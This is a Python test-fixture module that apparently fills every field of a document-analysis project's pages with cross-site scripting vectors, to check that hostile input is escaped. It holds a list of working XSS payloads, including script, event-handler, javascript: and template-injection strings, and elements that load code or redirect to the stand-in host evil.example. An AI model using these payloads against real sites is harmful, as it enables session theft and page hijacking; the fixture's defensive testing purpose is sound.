"""Pages of which every field that a page can fill holds script, and a project of them."""

import itertools

from dragoman.model import (
    About,
    Act,
    Actor,
    ActorType,
    Block,
    ChainLink,
    Document,
    Event,
    EventReport,
    Form,
    Mention,
    Published,
    Reading,
    Speaker,
    Statement,
    Status,
)
from dragoman.record import Project, Reviewed

OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\u003c/a\\u003e", "` ${pwned()} ")
PAYLOADS = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<a href=javascript:pwned()>x</a>",
    "<a href=' javascript:pwned()'>x</a>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-on:load=pwned()>x</div>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "{{ 7 * 7 }}{% for x in () %}",
    "onmouseover=pwned() x=",
    "%3Cscript%3Epwned()%3C/script%3E",
    "javascript:pwned()",
)
VECTORS = [opening + payload for opening, payload in itertools.product(OPENINGS, PAYLOADS)]


def reading(vector, number):
    """A page of which every field that a page can fill holds the vector."""
    words = f"{vector} accused Belmark. “{vector}”, said {vector} in {vector}.\nMenu {vector}\n"
    document = Document(
        words,
        f"{vector}{number}",
        vector,
        vector,
        vector,
        Published("2031-05-04", "text"),
        "en",
        ((0, words.index("\n")),),
        (Block(words.index("\n") + 1, len(words) - 1, "menu"),),
    )
    size = len(vector)
    someone = Actor(f"person:x{number % 7}", vector, ActorType.PERSON, "FRA", "GOV", None, (vector,))
    other = Actor("state:DEU", "Germany", ActorType.STATE, "DEU", "GOV", None, (vector,))
    chain = (ChainLink(someone.id, vector, (0, size)), ChainLink(None, vector, None))
    start = words.index("“") + 1
    statement = Statement(
        f"statement-{number}",
        document.id,
        start,
        start + size,
        vector,
        Form.DIRECT,
        Act.ACCUSE,
        None,
        Speaker(someone.id, vector, vector, (0, size)),
        chain,
        (About(other.id, -1),),
        0.5,
    )
    clause = f"{vector} accused Belmark"
    report = EventReport(document.id, 0, len(clause), clause, chain, None, 0.4)
    status = (Status.HAPPENED, Status.DENIED)[number % 2]
    event = Event(
        f"event-{number}",
        "ACCUSE",
        None,
        (),
        3,
        (someone.id,),
        (other.id,),
        status,
        "2031-05-03",
        "text",
        f"geonames:1 {vector}",
        (report,),
    )
    mentions = (Mention(0, size, someone.id, "name"),)
    return Reading(document, "hostile 1", (someone, other), mentions, (statement,), (event,), (vector,))


def make(folder):
    """A project of one page for each vector, in which nothing that a page can fill is harmless."""
    with Project(folder) as project:
        run = project.start_run("hostile 1", {})
        for number, vector in enumerate(VECTORS):
            project.add(reading(vector, number), run, vector.encode())
            project.fail(run, f"{vector}.txt", vector, vector)
        project.finish_run(run)
        project.resolve()
        project.review(Reviewed("accept", "statement-1", VECTORS[0]))
    return folder
